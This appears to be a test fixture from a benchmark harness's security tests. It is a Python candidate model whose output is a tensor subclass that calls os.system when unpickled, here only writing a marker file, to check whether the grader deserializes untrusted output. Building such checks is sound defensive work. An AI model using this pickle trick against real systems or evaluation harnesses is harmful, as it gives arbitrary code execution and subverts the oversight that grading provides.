"""Outputs that run code when loaded: the output is a tensor subclass whose pickle form calls
os.system; a harness that unpickles what the candidate's process sends would run it (here it
only writes a marker file next to this one)."""
import os
from pathlib import Path

import torch
import torch.nn as nn

from _axpy import axpy

MARKER = Path(__file__).with_suffix(".marker")


class Payload(torch.Tensor):
    def __reduce_ex__(self, protocol):
        return (os.system, (f"echo unpickled > {MARKER}",))


class ModelNew(nn.Module):
    def forward(self, x, y):
        return axpy(x, y).as_subclass(Payload)
